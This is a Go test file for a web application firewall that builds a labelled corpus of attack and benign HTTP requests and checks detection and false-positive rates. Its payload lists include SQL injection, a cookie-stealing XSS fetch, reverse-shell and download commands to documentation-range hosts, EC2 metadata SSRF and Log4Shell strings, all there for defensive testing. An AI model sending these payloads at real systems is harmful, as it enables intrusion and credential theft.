package waf

import (
	"bytes"
	"encoding/json"
	"flag"
	"io"
	"math/rand/v2"
	"net/netip"
	"net/url"
	"os"
	"strconv"
	"strings"
	"testing"
)

// The labelled corpus generator: attack families (SQLi, XSS, LFI, RFI,
// command injection, SSRF to the EC2 metadata service, Log4Shell, bad bots)
// and benign traffic with hard negatives that look like attacks. The
// payloads are written for moat (not copied from public lists); the seed is
// fixed so that rates are reproducible.

type labelled struct {
	family string // "benign", "benign-hard" or the attack family
	req    *Request
}

func (l labelled) attack() bool { return !strings.HasPrefix(l.family, "benign") }

var (
	sqliPayloads = []string{
		"1' OR '1'='1", "1 UNION SELECT username,password FROM users--", "admin'--", "1; DROP TABLE users",
		"1' AND SLEEP(5)#", "' OR 1=1 LIMIT 1 -- -", "1) OR (1=1", "x' UNION ALL SELECT NULL,NULL,version()--",
		"1 AND (SELECT COUNT(*) FROM information_schema.tables)>0", "'; EXEC xp_cmdshell('dir')--",
		"1' WAITFOR DELAY '0:0:5'--", "1' ORDER BY 10--", "-1' UNION SELECT 1,@@version,3#",
		"1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))", "' AND extractvalue(1,concat(0x7e,user()))--",
		"1' AND substring(version(),1,1)='5", "\" OR \"\"=\"", "1 OR 1=1", "x'; INSERT INTO log VALUES('a')--",
		"1' AND benchmark(5000000,md5(1))#",
	}
	xssPayloads = []string{
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(document.domain)>",
		"javascript:alert(1)", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
		"\"><script>prompt(1)</script>", "<a href=\"javascript:confirm(1)\">x</a>", "<details open ontoggle=alert(1)>",
		"<img src=1 onerror=\"fetch('//203.0.113.7/'+document.cookie)\">", "<svg><script>alert(1)</script></svg>",
		"<input autofocus onfocus=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<ScRiPt>alert`1`</sCrIpT>",
		"<object data=\"javascript:alert(1)\">", "'><img src=x onerror=alert(1)>",
	}
	lfiPayloads = []string{
		"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "/proc/self/environ", "....//....//etc/passwd",
		"..\\..\\windows\\win.ini", "php://filter/convert.base64-encode/resource=index.php", "../../../../../../boot.ini",
		"%2e%2e%2f%2e%2e%2fetc%2fhosts",
	}
	rfiPayloads = []string{
		"http://203.0.113.66/shell.txt?", "ftp://198.51.100.23/x.php", "https://192.0.2.200/c99.txt", "file://10.0.0.5/share/x",
	}
	cmdPayloads = []string{
		"; cat /etc/passwd", "| id", "`whoami`", "$(curl http://203.0.113.5/x.sh)", "&& ls -la", "; nc -e /bin/sh 203.0.113.5 4444",
		"|| ping -c 3 127.0.0.1", "; uname -a", "| wget http://203.0.113.9/a -O /tmp/a", "&& c^m^d.exe /c dir",
	}
	ssrfPayloads = []string{
		"http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://[fd00:ec2::254]/latest/meta-data/",
		"http://0xa9fea9fe/latest/user-data", "http://2852039166/latest/meta-data/", "http://169.254.169.254/latest/api/token",
		"http://metadata.google.internal/computeMetadata/v1/",
	}
	log4jPayloads = []string{
		"${jndi:ldap://203.0.113.5/a}", "${jndi:rmi://198.51.100.4:1099/x}", "${${lower:j}ndi:dns://x}", "${jndi:ldaps://a.example/o}",
	}
	badBots = []string{"sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0)", "Nmap Scripting Engine",
		"masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 zgrab/0.x", "Nuclei - Open-source project"}

	benignQueries = []string{"running shoes", "red dress size 10", "cheap flights paris", "how to bake bread", "iphone case",
		"python tutorial", "weather tomorrow", "best pizza near me", "concert tickets", "garden tools", "golang generics",
		"used cars", "hiking boots", "coffee grinder", "summer 2026 schedule"}
	hardNegatives = []string{
		"O'Reilly books", "select a size from the menu", "union station to downtown", "Tom & Jerry <3", "1-2 of 3 results",
		"I'm here; who's there?", "drop-down menu not working", "C:\\Program Files\\App", "javascript tutorial for beginners",
		"rock 'n' roll", "where is the script supervisor", "between 1 and 10", "order by price", "fish & chips",
		"update my address", "the alert was a false alarm", "e-mail: jane.doe@example.com", "5 > 3 and 2 < 4",
		"insert coin to continue", "it's 100% cotton", "cat food for seniors", "id card renewal", "ping pong table",
		"sleep(ing) bag", "/etc is a folder name", "win.ini editor review", "the ../ notation in paths explained",
	}
	userAgents = []string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
		"Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0", "curl/8.8.0"}
	staticPaths = []string{"/", "/index.html", "/css/site.css", "/js/app.js", "/img/logo.png", "/favicon.ico", "/about", "/products/42", "/blog/2026/06/hello-world"}
)

// labelledCorpus returns n requests, about half attacks, reproducibly.
func labelledCorpus(seed uint64, n int) []labelled {
	rng := rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15))
	pick := func(l []string) string { return l[rng.IntN(len(l))] }
	ip := func() netip.Addr { return netip.AddrFrom4([4]byte{198, 51, 100, byte(1 + rng.IntN(250))}) }
	base := func(method, uri string) *Request {
		return &Request{Method: method, URI: uri, ClientIP: ip(), HTTPVersion: "HTTP/1.1",
			Headers: []Header{{"Host", "shop.example.com"}, {"User-Agent", pick(userAgents)}, {"Accept", "*/*"}}}
	}
	q := url.QueryEscape
	out := make([]labelled, 0, n)
	for len(out) < n {
		switch k := rng.IntN(20); {
		case k < 4: // benign GET with a search
			out = append(out, labelled{"benign", base("GET", "/search?q="+q(pick(benignQueries))+"&page="+string(rune('1'+rng.IntN(9))))})
		case k < 6:
			out = append(out, labelled{"benign", base("GET", pick(staticPaths))})
		case k < 8: // JSON or form POST
			r := base("POST", "/api/orders")
			if rng.IntN(2) == 0 {
				r.Body = []byte(`{"item":"` + pick(benignQueries) + `","qty":` + string(rune('1'+rng.IntN(9))) + `,"note":"please gift wrap"}`)
				r.Headers = append(r.Headers, Header{"Content-Type", "application/json"})
			} else {
				r.Body = []byte("name=" + q("Jane Doe") + "&comment=" + q(pick(benignQueries)))
				r.Headers = append(r.Headers, Header{"Content-Type", "application/x-www-form-urlencoded"})
			}
			out = append(out, labelled{"benign", r})
		case k < 10: // hard negatives in a query or a form body
			h := pick(hardNegatives)
			if rng.IntN(2) == 0 {
				out = append(out, labelled{"benign-hard", base("GET", "/search?q="+q(h))})
			} else {
				r := base("POST", "/comments")
				r.Body = []byte("comment=" + q(h))
				out = append(out, labelled{"benign-hard", r})
			}
		default:
			out = append(out, attackRequest(rng, base, pick))
		}
	}
	return out
}

func attackRequest(rng *rand.Rand, base func(string, string) *Request, pick func([]string) string) labelled {
	q := url.QueryEscape
	inQueryOrBody := func(family, p string) labelled {
		if rng.IntN(3) == 0 {
			r := base("POST", "/login")
			r.Body = []byte("user=" + q(p) + "&pass=x")
			return labelled{family, r}
		}
		return labelled{family, base("GET", "/item?id="+q(p))}
	}
	switch rng.IntN(9) {
	case 0, 1:
		return inQueryOrBody("sqli", pick(sqliPayloads))
	case 2, 3:
		return inQueryOrBody("xss", pick(xssPayloads))
	case 4:
		p := pick(lfiPayloads)
		if strings.Contains(p, "%") {
			return labelled{"lfi", base("GET", "/download?file="+p)}
		}
		return labelled{"lfi", base("GET", "/download?file="+q(p))}
	case 5:
		if rng.IntN(2) == 0 {
			return labelled{"rfi", base("GET", "/page?include="+q(pick(rfiPayloads)))}
		}
		return labelled{"ssrf", base("GET", "/fetch?url="+q(pick(ssrfPayloads)))}
	case 6:
		return inQueryOrBody("cmdi", "x"+pick(cmdPayloads))
	case 7:
		r := base("GET", "/")
		if rng.IntN(2) == 0 {
			r.Headers[1].Value = pick(log4jPayloads)
		} else {
			r.URI = "/?x=" + q(pick(log4jPayloads))
		}
		return labelled{"log4j", r}
	}
	r := base("GET", "/wp-login.php")
	if rng.IntN(4) == 0 {
		r.Headers = r.Headers[:1] // no User-Agent
	} else {
		r.Headers[1].Value = pick(badBots)
	}
	return labelled{"bot", r}
}

func detectionACL(t testing.TB) *WebACL {
	t.Helper()
	f, err := ParseWebACL(readTestdata(t, "detection-acl.json"))
	if err != nil {
		t.Fatal(err)
	}
	w, err := Compile(f, Options{})
	if err != nil {
		t.Fatal(err)
	}
	return w
}

// TestDetectionRates measures the detection ACL (custom rules in AWS's
// statement language, not AWS's managed groups) on the generated corpus.
func TestDetectionRates(t *testing.T) {
	t.Parallel()
	w := detectionACL(t)
	corpus := labelledCorpus(1, 2000)
	if len(corpus) != 2000 {
		t.Fatalf("corpus has %d requests", len(corpus))
	}
	type tally struct{ n, blocked int }
	per := map[string]*tally{}
	var res Result
	var attacks, caught, benign, fp int
	for _, l := range corpus {
		w.Evaluate(l.req, &res)
		blocked := res.Action == Block
		tl := per[l.family]
		if tl == nil {
			tl = &tally{}
			per[l.family] = tl
		}
		tl.n++
		if blocked {
			tl.blocked++
		}
		if l.attack() {
			attacks++
			if blocked {
				caught++
			} else {
				t.Logf("missed %s: %s %s %q %v", l.family, l.req.Method, l.req.URI, l.req.Body, l.req.Headers[1:])
			}
		} else {
			benign++
			if blocked {
				fp++
				t.Logf("false positive (%s): %s %s %q", res.TerminatingRuleID, l.req.Method, l.req.URI, l.req.Body)
			}
		}
	}
	for fam, tl := range per {
		t.Logf("%-12s %4d requests, %4d blocked", fam, tl.n, tl.blocked)
	}
	det := float64(caught) / float64(attacks)
	fpr := float64(fp) / float64(benign)
	t.Logf("attacks blocked %d/%d (%.1f%%), benign blocked %d/%d (%.1f%%)", caught, attacks, 100*det, fp, benign, 100*fpr)
	if attacks < 500 || benign < 500 {
		t.Fatalf("corpus too small: %d attacks, %d benign", attacks, benign)
	}
	// Regression floors for this ACL on this corpus, measured when it was
	// written: 998/998 attacks and 24/1002 benign blocked (all 24 hard
	// negatives: libinjection on "sleep(ing) bag" and "5 > 3 and 2 < 4",
	// the LFI rule on "../" and "win.ini" in prose). The rules and the
	// payloads were written together, so these rates say the engine
	// evaluates them faithfully, not how well they generalise; waf.md's
	// Coraza anchor (96.4% / 2.0%) was measured on a different corpus.
	if det < 0.99 || fpr > 0.03 {
		t.Fatalf("detection %.1f%% (floor 99%%), false positives %.1f%% (ceiling 3%%)", 100*det, 100*fpr)
	}
}

var corpusOut = flag.String("waf.corpus", "", "write the labelled corpus as `moat waf test` JSON Lines to this file (bench/waf/run.sh)")
var corpusN = flag.Int("waf.corpus-n", 1000, "requests in the written corpus")

// TestWriteCorpus writes the labelled corpus for bench/waf/run.sh; ids are
// "<family>-<n>" so that a reader knows each request's label.
func TestWriteCorpus(t *testing.T) {
	if *corpusOut == "" {
		t.Skip("set -waf.corpus=FILE to write the corpus (bench/waf/run.sh does)")
	}
	var b []byte
	for i, l := range labelledCorpus(1, *corpusN) {
		tr := TestRequest{ID: l.family + "-" + strconv.Itoa(i), Method: l.req.Method, URI: l.req.URI, Body: string(l.req.Body),
			ClientIP: l.req.ClientIP.String(), HTTPVersion: l.req.HTTPVersion, Headers: [][]string{}}
		for _, h := range l.req.Headers {
			tr.Headers = append(tr.Headers, []string{h.Name, h.Value})
		}
		line, err := json.Marshal(tr)
		if err != nil {
			t.Fatal(err)
		}
		b = append(append(b, line...), '\n')
	}
	if err := os.WriteFile(*corpusOut, b, 0o644); err != nil {
		t.Fatal(err)
	}
	// the written corpus reads back through the test command's reader
	rd := NewRequestReader(bytes.NewReader(b))
	n := 0
	for {
		_, _, err := rd.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		n++
	}
	if n != *corpusN {
		t.Fatalf("read back %d requests, wrote %d", n, *corpusN)
	}
}
